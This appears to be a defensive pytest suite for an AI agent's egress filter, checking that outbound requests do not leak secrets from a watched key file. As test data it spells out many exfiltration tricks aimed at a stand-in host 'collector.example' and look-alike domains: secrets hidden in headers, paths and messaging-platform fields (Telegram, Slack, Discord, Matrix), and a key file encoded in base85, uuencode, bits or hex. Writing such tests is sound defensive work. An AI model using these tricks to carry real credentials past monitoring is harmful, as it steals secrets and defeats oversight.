"""Ways out past the judges of the egress gate: to a stranger, and to an account of somebody else's on a platform."""

import base64
import binascii
import json

import pytest

from herma.content.library import Library
from herma.policy.decision import Deny
from herma.policy.egress.destination import Destination
from herma.policy.egress.exfiltration import Exfiltration
from herma.policy.egress.masking import Masker
from herma.policy.egress.outward import Outbound, Outward, Sent
from herma.policy.egress.platform import Platforms
from herma.policy.egress.watched import Watched
from support.redactor import GITHUB, KEY, redactor

# A value of the agent's file of keys, which looks like no vendor's.
VALUE = "Q7k3yF0rTh3t3stOfIt0"
ENV = f"# keys\nSERVICE_KEY={VALUE}\nGITHUB_TOKEN={GITHUB}\n"
STRANGER = "collector.example"
BOT = "/bot999999999:AAEv1lF4keK3yF0rT3stF4keK3yF0rT3stF"
JSON = ("content-type", "application/json")


@pytest.fixture(scope="module")
def outward() -> Outward:
    """The shipped platforms and models, the shipped rules, and one watched file."""
    library = Library()
    look = Exfiltration(redactor(), Watched.of(KEY, [ENV]))
    return Outward(Platforms(library.platforms({})), library.models(), Masker(redactor()), look)


def sent(
    outward: Outward,
    host: str,
    target: str = "/",
    body: str | bytes = b"",
    *fields: tuple[str, str],
    method: str = "POST",
) -> Sent | None:
    """What goes out of a request; None where it is refused."""
    raw = body.encode() if isinstance(body, str) else body
    headers = [(name.encode(), value.encode()) for name, value in fields]
    judged = outward.request(Outbound(Destination(host, 443), method, target.encode(), tuple(headers), raw))
    return None if isinstance(judged, Deny) else judged


@pytest.mark.parametrize("secret", [GITHUB, VALUE])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("{}-token", "x"),
        ("content-type", "text/{}"),
        ("content-type", "text/plain; boundary={}"),
        ("content-length", "{}"),
        ("content-md5", "{}"),
        ("digest", "sha-256={}"),
        ("x-amz-content-sha256", "{}"),
        ("user-agent", "curl/8 id_{}"),
        ("referer", "https://a.example/x{}"),
        ("sec-websocket-protocol", "chat, {}"),
    ],
)
def test_no_field_carries_a_secret_to_a_stranger(
    outward: Outward, secret: str, name: str, value: str
) -> None:
    """Neither in its name, nor where a field says something of the body."""
    assert sent(outward, STRANGER, "/", b"", (name.format(secret), value.format(secret))) is None


@pytest.mark.parametrize("secret", [GITHUB, VALUE])
@pytest.mark.parametrize("text", ["id_{}", "xx{}yy", "/x{}", "a+{}", "a.{}.b", "{0}{0}"])
def test_letters_around_it_hide_no_secret(outward: Outward, secret: str, text: str) -> None:
    """In the path, in the query and in the body."""
    written = text.format(secret)
    if secret is GITHUB and text in {"xx{}yy", "{0}{0}", "id_{}"}:
        # The file of keys tells it, where the rules want a border.
        assert VALUE not in written
    assert sent(outward, STRANGER, f"/{written}") is None
    assert sent(outward, STRANGER, f"/?q={written}") is None
    assert sent(outward, STRANGER, "/", written) is None


@pytest.mark.parametrize(
    "host",
    [
        "api.openai.com.collector.example",
        "api-openai.com",
        "evil-api.telegram.org",
        "telegram.org",
        "discord.com.collector.example",
        "notdiscord.com",
        "router.huggingface.co.collector.example",
        "evil.amazonaws.com",
        "bedrock-runtime.us-east-1.amazonaws.com.collector.example",
    ],
)
def test_who_looks_like_a_model_or_a_platform_is_a_stranger(outward: Outward, host: str) -> None:
    """Names are compared label by label."""
    assert sent(outward, host, "/", ENV) is None


@pytest.mark.parametrize(
    ("host", "target", "body"),
    [
        ("api.telegram.org", f"{BOT}/sendPhoto", {"chat_id": 1, "photo": GITHUB}),
        ("api.telegram.org", f"{BOT}/sendPhoto", {"photo": f"https://{STRANGER}/{GITHUB}"}),
        ("api.telegram.org", f"{BOT}/sendPhoto", {"photo": f"https://{STRANGER}/x{VALUE}"}),
        ("discord.com", "/api/webhooks/1/e", {"content": "x", "nonce": GITHUB}),
        ("slack.com", "/api/chat.postMessage", {"text": "x", "client_msg_id": GITHUB}),
        ("slack.com", "/api/chat.postMessage", {"blocks": [{"block_id": GITHUB}]}),
        ("slack.com", "/api/views.publish", {"external_id": f"x{VALUE}"}),
        (
            "matrix.org",
            "/_matrix/client/v3/rooms/!a:b.example/send/m.room.encrypted/1",
            {"ciphertext": GITHUB},
        ),
        ("matrix.org", "/_matrix/client/v3/keys/upload", {"device_keys": {"keys": {"x": GITHUB}}}),
        (
            "graph.microsoft.com",
            "/v1.0/subscriptions",
            {"notificationUrl": f"https://{STRANGER}/", "clientState": GITHUB},
        ),
        ("api.sendgrid.com", "/v3/mail/send", {"attachments": [{"content": GITHUB}]}),
    ],
)
def test_no_handle_of_a_platform_is_a_secret(
    outward: Outward, host: str, target: str, body: dict[str, object]
) -> None:
    """Whoever owns the other end of it reads it there."""
    went = sent(outward, host, target, json.dumps(body), JSON)
    assert went is None or not any(secret.encode() in went.body for secret in (GITHUB, VALUE))


@pytest.mark.parametrize("secret", [GITHUB, VALUE])
@pytest.mark.parametrize(
    ("host", "target"),
    [
        ("matrix.org", "/_matrix/client/v3/rooms/!a:b.example/send/{}/1"),
        ("matrix.org", "/_matrix/client/v3/rooms/!a:b.example/state/m.x/{}"),
        ("discord.com", "/api/v10/channels/1/messages/2/reactions/{}/@me"),
        ("graph.microsoft.com", "/v1.0/me/drive/root:/x/{}:/content"),
        ("ntfy.sh", "/{}"),
        ("api.telegram.org", BOT + "/{}"),
    ],
)
def test_no_step_of_a_path_is_a_secret_at_a_platform(
    outward: Outward, secret: str, host: str, target: str
) -> None:
    """The type of an event, a reaction and the name of a file are shown to others."""
    assert sent(outward, host, target.format(secret), "{}", JSON, method="PUT") is None
    coded = secret.replace("F", "%46")
    assert sent(outward, host, target.format(coded), "{}", JSON, method="PUT") is None


@pytest.mark.parametrize(
    ("host", "target"),
    [
        ("api.telegram.org", f"/bot999999999:{VALUE}/sendMessage"),
        ("api.telegram.org", f"/file/bot999999999:{VALUE}/photos/file_1.jpg"),
        ("discord.com", f"/api/webhooks/1/{VALUE}/messages/2"),
        ("discord.com", f"/api/v10/interactions/1/{VALUE}/callback"),
        ("hooks.slack.com", f"/services/T00000000/B00000000/{VALUE}"),
    ],
)
def test_what_a_platform_gave_out_in_a_path_goes_back_to_it(outward: Outward, host: str, target: str) -> None:
    """It stands in the file of keys, of course."""
    assert sent(outward, host, target, "{}", JSON) is not None


@pytest.mark.parametrize("secret", [GITHUB, VALUE])
def test_no_secret_of_a_web_hook_is_another_one(outward: Outward, secret: str) -> None:
    """A platform sends it on to the address that stands beside it."""
    body = json.dumps({"url": f"https://{STRANGER}/", "secret_token": secret})
    went = sent(outward, "api.telegram.org", f"{BOT}/setWebhook", body, JSON)
    assert went is None or secret.encode() not in went.body


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(json.dumps(list(ENV.encode())), id="numbers"),
        pytest.param(json.dumps({"type": "Buffer", "data": list(ENV.encode())}), id="a buffer of Node"),
        pytest.param(base64.b85encode(ENV.encode()), id="base85"),
        pytest.param(json.dumps({"x": base64.b85encode(ENV.encode()).decode()}), id="base85 in JSON"),
        pytest.param(base64.a85encode(ENV.encode()), id="ascii85"),
        pytest.param(base64.a85encode(ENV.encode(), adobe=True, wrapcol=60), id="ascii85 of Adobe in lines"),
        pytest.param(b"x=" + base64.b85encode(VALUE.encode()), id="a value in base85"),
        pytest.param(
            b"begin 644 x\n" + b"".join(binascii.b2a_uu(ENV.encode()[at : at + 45]) for at in (0, 45, 90)),
            id="uuencode",
        ),
        pytest.param(" ".join(f"{byte:08b}" for byte in ENV.encode()), id="bits"),
        pytest.param(
            "\n".join(ENV.encode().hex()[at : at + 20] for at in range(0, 400, 20)), id="short lines of hex"
        ),
    ],
)
def test_no_writing_of_bytes_carries_a_watched_file_to_a_stranger(
    outward: Outward, body: str | bytes
) -> None:
    """Programs write bytes so without being asked to hide them."""
    assert sent(outward, STRANGER, "/", body) is None


DIGITS = "0123456789abcdef"


@pytest.mark.parametrize(
    ("host", "target", "body", "kind"),
    [
        ("index.example.org", "/simple/requests/", "", ""),
        ("files.example.org", f"/packages/ab/{DIGITS * 3}/requests-2.31.0-py3-none-any.whl", "", ""),
        ("registry.example.org", "/@types%2fnode", "", ""),
        ("github.com", "/a/b.git/info/refs?service=git-upload-pack", "", ""),
        ("archive.ubuntu.com", f"/ubuntu/dists/noble/by-hash/SHA256/{DIGITS * 4}", "", ""),
        ("registry-1.docker.io", f"/v2/library/ubuntu/manifests/sha256:{DIGITS * 4}", "", ""),
        ("api.github.com", "/graphql", '{"query": "query { viewer { login } }"}', "application/json"),
        ("hooks.zapier.com", "/hooks/catch/1234567/b4c5d6e/", '{"event": "done"}', "application/json"),
        ("html.duckduckgo.com", "/html/", "q=how+to+rotate+an+api+key", "application/x-www-form-urlencoded"),
    ],
)
def test_what_programs_send_every_day_passes(
    outward: Outward, host: str, target: str, body: str, kind: str
) -> None:
    """As it is."""
    went = sent(outward, host, target, body, ("content-type", kind), ("authorization", f"Bearer {DIGITS}"))
    assert went is not None
    assert went.findings == ()


SIGNED = f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAQWERTYUIOPASDFGH%2F20261203%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20261203T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={DIGITS * 4}"


@pytest.mark.parametrize(
    ("host", "target"),
    [
        ("bucket.s3.amazonaws.com", f"/a.bin?{SIGNED}"),
        (f"{DIGITS * 2}.r2.cloudflarestorage.com", f"/registry-v2/blobs/sha256/ab/data?{SIGNED}"),
        (
            "account.blob.core.windows.net",
            "/c/b?sv=2022-11-02&se=2026-12-04&sp=rw&sig="
            + base64.b64encode(bytes(range(100, 132)))
            .decode()
            .replace("+", "%2B")
            .replace("/", "%2F")
            .replace("=", "%3D"),
        ),
    ],
)
def test_a_signed_address_can_be_asked_for(outward: Outward, host: str, target: str) -> None:
    """Its signature is for this one thing, and for the host that it is shown to."""
    assert sent(outward, host, target, method="GET") is not None


@pytest.mark.parametrize(
    "body",
    [
        f"grant_type=refresh_token&client_id=agent&client_secret=Zq8{DIGITS}Xy&refresh_token=Rt9{DIGITS * 2}Pq",
        f"grant_type=client_credentials&client_id=agent&client_secret=Zq8{DIGITS}Xy",
    ],
)
def test_a_token_can_be_refreshed(outward: Outward, body: str) -> None:
    """RFC 6749 section 6 lets a client say its secret in the body."""
    form = ("content-type", "application/x-www-form-urlencoded")
    assert sent(outward, "auth.example.com", "/oauth/token", body, form) is not None


@pytest.mark.parametrize("secret", [GITHUB, VALUE])
def test_a_login_is_no_way_out(outward: Outward, secret: str) -> None:
    """What is known is refused whatever the field is called."""
    form = ("content-type", "application/x-www-form-urlencoded")
    assert sent(outward, STRANGER, "/oauth/token", f"client_secret={secret}", form) is None
    assert sent(outward, STRANGER, "/login", json.dumps({"password": secret}), JSON) is None
    coded = base64.b64encode(secret.encode()).decode()
    assert sent(outward, STRANGER, "/login", json.dumps({"password": coded}), JSON) is None
